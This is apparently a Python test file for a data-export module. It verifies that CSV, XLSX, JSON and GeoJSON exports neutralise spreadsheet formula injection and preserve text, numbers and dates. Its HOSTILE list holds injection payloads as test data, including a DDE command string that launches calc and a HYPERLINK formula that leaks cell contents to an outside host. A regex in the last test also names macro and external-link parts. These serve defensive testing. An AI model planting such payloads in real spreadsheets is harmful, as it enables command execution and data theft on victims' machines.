"""Exports: text comes back equal, no cell is active, numbers stay numbers, in all five forms."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from tempfile import TemporaryDirectory

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.corpus import GENERIC, mapped
from vedette.core.kernel.errors import BadInput
from vedette.core.kernel.problems import Status
from vedette.core.sources.mapping import parse_mapping
from vedette.core.sources.reading import Reading, read
from vedette.core.trust import _xlsx
from vedette.core.trust.active_cells import STARTS, inert, is_active, original
from vedette.core.trust.export_cells import About, Row
from vedette.core.trust.exports import ABOUT, MEDIA_TYPES, Form, written

EXAMPLES = int(os.environ.get("VEDETTE_EXAMPLES", "60"))
ABOUT_IT = About(
    "Incidents", "confidential: MINUSMA", dt.date(2026, 11, 26), "7f3a" * 16, "mission is\nMINUSMA"
)
HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1",
    "''@x",
    "'tis",
    "'",
    '=HYPERLINK("http://a.example/?x="&A1,"go")',
    "=cmd|' /C calc'!A0",
    '"=1+1"',
    "a,=1",
    "a;=1",
    "line one\n=line two",
    "# Vedette export",
    "<r><t>x</t></r>",
    "<r></c><c><f>1+1</f></c></r>",
    "&lt;&amp;",
    "_x000D_",
    "http://a.example",
    "00123",
    "1E5",
    "TRUE",
    " spaces around ",
    "Ñandú – نقطة – 中文",
]
TEXTS = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=30),
    st.text(f"{STARTS}'\",;\n\r\t ax1", max_size=8),
)
EXCHANGE = list(GENERIC["columns"])  # type: ignore[call-overload]


def content(form: Form, rows: list[Row], columns: list[str]) -> bytes:
    return b"".join(written(form, rows, columns, ABOUT_IT))


def csv_cells(rows: list[Row], columns: list[str]) -> list[list[str]]:
    text = content(Form.CSV, rows, columns).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def table_of(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [list(row) for row in book["Table"].iter_rows()]


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return package.read("xl/worksheets/sheet2.xml").decode()


def incident(number: int, **values: object) -> Row:
    row: dict[str, object] = dict.fromkeys(EXCHANGE) | {
        "incident_id": f"A{number}",
        "date": dt.date(2017, 12, 7),
        "country": "COD",
        "killed": 15,
    }
    return row | values  # type: ignore[return-value]


def read_back(content: bytes, name: str, **options: object) -> Reading:
    with TemporaryDirectory() as folder:
        path = Path(folder) / name
        path.write_bytes(content)
        return read(path, parse_mapping(mapped(**options)), received_on=dt.date(2026, 11, 26))


@given(text=TEXTS)
def test_taking_the_apostrophe_off_gives_the_text_back(text):
    assert original(inert(text)) == text
    assert not is_active(inert(text))
    assert inert(text) in (text, f"'{text}")


@settings(max_examples=EXAMPLES)
@given(texts=st.lists(TEXTS, min_size=1, max_size=8))
@example(texts=HOSTILE)
def test_no_cell_of_a_csv_is_active_and_the_strict_reader_gives_equal_text(texts):
    rows = [incident(at, notes=text, place=text) for at, text in enumerate(texts)]

    cells = csv_cells(rows, EXCHANGE)
    back = read_back(content(Form.CSV, rows, EXCHANGE), "export.csv")

    assert not [cell for line in cells for cell in line if is_active(cell)]
    assert back.status is Status.ACCEPTED_WITH_WARNINGS
    assert back.typed is not None
    assert back.typed["notes"].to_pylist() == [text or None for text in texts]
    assert back.typed["place"].to_pylist() == [text or None for text in texts]


@settings(max_examples=EXAMPLES)
@given(texts=st.lists(TEXTS, min_size=1, max_size=8))
@example(texts=HOSTILE)
def test_no_cell_of_a_workbook_is_active_and_our_reader_gives_equal_text(texts):
    rows = [incident(at, notes=text) for at, text in enumerate(texts)]
    made = content(Form.XLSX, rows, EXCHANGE)

    back = read_back(made, "export.xlsx", sheet="Table")

    assert "<f>" not in sheet_xml(made)
    assert back.typed is not None, back.errors
    assert back.typed["notes"].to_pylist() == [text or None for text in texts]


@settings(max_examples=EXAMPLES)
@given(texts=st.lists(TEXTS.filter(lambda text: "\r" not in text and "_x" not in text), min_size=1))
def test_openpyxl_reads_text_as_text(texts):
    cells = table_of(content(Form.XLSX, [{"t": text} for text in texts], ["t"]))

    assert [row[0].value or "" for row in cells[1:]] == texts
    assert {row[0].data_type for row in cells[1:] if row[0].value} <= {"s", "inlineStr"}
    assert all(row[0].quotePrefix for row in cells[1:] if row[0].value and is_active(row[0].value))


@settings(max_examples=EXAMPLES)
@given(texts=st.lists(TEXTS, max_size=8))
def test_the_forms_of_json_keep_text_as_it_is(texts):
    rows: list[Row] = [{"t": text, "lat": 18.5, "lon": -1.25} for text in texts]
    names = ["t", "lat", "lon"]

    whole = json.loads(content(Form.JSON, rows, names))
    first, *lines = content(Form.JSONL, rows, names).decode().removesuffix("\n").split("\n")
    points = json.loads(content(Form.GEOJSON, rows, names))

    assert whole["rows"] == rows == [json.loads(line) for line in lines]
    assert [one["properties"]["t"] for one in points["features"]] == texts
    assert whole[ABOUT] == json.loads(first)[ABOUT] == points[ABOUT]


@settings(max_examples=EXAMPLES, deadline=None)
@given(
    texts=st.lists(TEXTS.filter(lambda text: not set(text) & set("\r\t")), min_size=1, max_size=8)
)
@example(texts=[text for text in HOSTILE if not set(text) & set("\r\t")])
@pytest.mark.parametrize("form", [Form.JSON, Form.JSONL, Form.GEOJSON])
def test_our_reader_takes_every_form_of_json_back(form, texts):
    rows = [
        incident(at, notes=text, lat=0.6, lon=29.6, injured=None) for at, text in enumerate(texts)
    ]

    back = read_back(content(form, rows, EXCHANGE), f"export.{form}")

    assert back.typed is not None, back.errors
    for name in ("notes", "killed", "injured", "date", "lat", "lon"):
        came = [row[name] or None for row in rows]
        told = back.typed[name].to_pylist()
        assert told == ([str(day) for day in came] if name == "date" else came), name
    if form is not Form.GEOJSON:
        assert "lines.own_export" in {one.rule for one in back.warnings}


def test_an_object_of_others_is_no_export_of_ours():
    back = read_back(b'{"rows":[{"incident_id":"1"}]}', "other.json")
    first = read_back(b'{"vedette_export":{},"date":"2017-12-07"}\n', "other.jsonl")

    assert [one.rule for one in back.errors] == ["json.not_array"]
    assert "lines.own_export" not in {one.rule for one in (*back.warnings, *first.warnings)}


def test_a_csv_says_first_what_it_is():
    assert csv_cells([], ["a"]) == [
        [
            "# Vedette export",
            "title: Incidents",
            "marking: confidential: MINUSMA",
            "made_on: 2026-11-26",
            "run: " + "7f3a" * 16,
            "filter: mission is MINUSMA",
        ],
        ["a"],
    ]


def test_a_workbook_says_on_its_first_sheet_and_on_every_page_what_it_is():
    made = content(Form.XLSX, [], ["a"])
    book = openpyxl.load_workbook(io.BytesIO(made))

    assert book.sheetnames == ["About", "Table"]
    assert [[cell.value for cell in row] for row in book["About"].iter_rows()][1] == [
        "marking",
        "confidential: MINUSMA",
    ]
    assert book["Table"].oddHeader.center.text == "confidential: MINUSMA"


def test_a_workbook_bears_no_moment_of_its_making():
    with zipfile.ZipFile(io.BytesIO(content(Form.XLSX, [], ["a"]))) as made:
        told = made.read("docProps/core.xml").decode()

    assert set(re.findall("[0-9]{4}-[0-9T:-]+Z", told)) == {"1980-01-01T00:00:00Z"}


def test_numbers_stay_numbers_and_unknown_stays_empty():
    row: Row = {"a": -1.23, "b": -7, "c": None, "d": True, "e": 1e-7, "f": Decimal("-12.50")}
    names = list(row)

    assert csv_cells([row], names)[2] == ["-1.23", "-7", "", "true", "0.0000001", "-12.50"]
    cells = table_of(content(Form.XLSX, [row], names))[1]
    assert [cell.value for cell in cells] == [-1.23, -7, None, True, 1e-7, -12.5]
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "b", "n", "n"]
    assert json.loads(content(Form.JSON, [row], names))["rows"] == [row | {"f": -12.5}]


def test_a_number_that_a_spreadsheet_would_round_is_kept_as_text():
    row: Row = {"id": 2_014_000_000_000_017_001, "money": Decimal("12345678901234567.89")}
    names = list(row)

    assert [cell.value for cell in table_of(content(Form.XLSX, [row], names))[1]] == [
        "2014000000000017001",
        "12345678901234567.89",
    ]
    assert csv_cells([row], names)[2] == ["2014000000000017001", "12345678901234567.89"]
    assert json.loads(content(Form.JSON, [row], names))["rows"] == [
        {"id": 2_014_000_000_000_017_001, "money": "12345678901234567.89"}
    ]


def test_days_are_days_and_moments_are_in_utc():
    paris = dt.timezone(dt.timedelta(hours=1))
    row: Row = {
        "day": dt.date(2017, 3, 4),
        "old": dt.date(1899, 1, 1),
        "at": dt.datetime(2017, 3, 4, 12, 30, tzinfo=paris),
    }
    names = list(row)

    assert csv_cells([row], names)[2] == ["2017-03-04", "1899-01-01", "2017-03-04T11:30:00Z"]
    assert [cell.value for cell in table_of(content(Form.XLSX, [row], names))[1]] == [
        dt.datetime(2017, 3, 4),  # noqa: DTZ001 - a cell has no zone
        "1899-01-01",
        "2017-03-04T11:30:00Z",
    ]


@pytest.mark.parametrize("form", Form)
@pytest.mark.parametrize("number", [float("nan"), float("inf"), Decimal("NaN")])
def test_what_is_no_number_is_not_exported(form, number):
    with pytest.raises(ValueError, match=r"no number|not JSON"):
        content(form, [{"lat": number, "lon": 1.0}], ["lat", "lon"])


def test_a_row_without_coordinates_is_a_feature_without_geometry():
    rows: list[Row] = [
        {"id": "A1", "lat": 18.44, "lon": 1.41},
        {"id": "A2", "lat": None, "lon": None},
        {"id": "A3", "lat": 18.44, "lon": None},
    ]

    made = json.loads(content(Form.GEOJSON, rows, ["id", "lat", "lon"]))

    assert [one["geometry"] for one in made["features"]] == [
        {"type": "Point", "coordinates": [1.41, 18.44]},
        None,
        None,
    ]
    assert [one["properties"] for one in made["features"]] == [
        {"id": "A1"},
        {"id": "A2"},
        {"id": "A3"},
    ]


def test_geojson_needs_coordinates():
    with pytest.raises(ValueError, match="lat and lon"):
        content(Form.GEOJSON, [], ["id"])


def test_our_own_geojson_is_read_back():
    rows = [incident(1, lat=0.6, lon=29.6, notes="=1+1"), incident(2)]

    back = read_back(content(Form.GEOJSON, rows, EXCHANGE), "export.geojson")

    assert back.typed is not None, back.errors
    assert back.typed["lat"].to_pylist() == [0.6, None]
    assert back.typed["notes"].to_pylist() == ["=1+1", None]


def test_what_a_workbook_cannot_hold_is_refused_with_its_place(monkeypatch):
    with pytest.raises(BadInput, match=r"Row 2 has a text of 32,768 characters in 't'"):
        content(Form.XLSX, [{"t": "a"}, {"t": "b" * 32_768}], ["t"])
    monkeypatch.setattr(_xlsx, "MAX_ROWS", 2)
    with pytest.raises(BadInput, match="more than 2 rows"):
        content(Form.XLSX, [{"t": "a"}] * 3, ["t"])


def test_a_line_of_a_foreign_file_that_only_looks_like_ours_costs_a_warning():
    made = content(Form.CSV, [incident(1)], EXCHANGE)

    back = read_back(made, "export.csv")

    assert "lines.own_export" in {one.rule for one in back.warnings}
    assert back.staged is not None
    assert back.staged.line is not None
    assert back.staged.line.to_pylist() == [3]


def test_names_of_columns_are_inert_too():
    assert csv_cells([{"=a": 1}], ["=a"])[1] == ["'=a"]
    assert table_of(content(Form.XLSX, [{"=a": 1}], ["=a"]))[0][0].value == "=a"


def test_rows_are_taken_as_they_are_written():
    taken: list[int] = []

    def rows():
        for number in range(10_000):
            taken.append(number)
            yield {"n": number, "lat": None, "lon": None}

    for form in (Form.CSV, Form.JSON, Form.JSONL, Form.GEOJSON):
        taken.clear()
        pieces = written(form, rows(), ["n", "lat", "lon"], ABOUT_IT)
        next(pieces), next(pieces)
        assert len(taken) <= 1_000, form
    assert set(MEDIA_TYPES) == set(Form)


def test_the_workbook_holds_no_active_part():
    with zipfile.ZipFile(
        io.BytesIO(content(Form.XLSX, [{"t": t} for t in HOSTILE], ["t"]))
    ) as book:
        names = book.namelist()
        sheets = "".join(
            book.read(name).decode() for name in names if name.endswith((".xml", ".rels"))
        )

    assert not [n for n in names if re.search("vba|external|connection|embed|query", n, re.I)]
    assert "<hyperlink " not in sheets
    assert "relationships/hyperlink" not in sheets
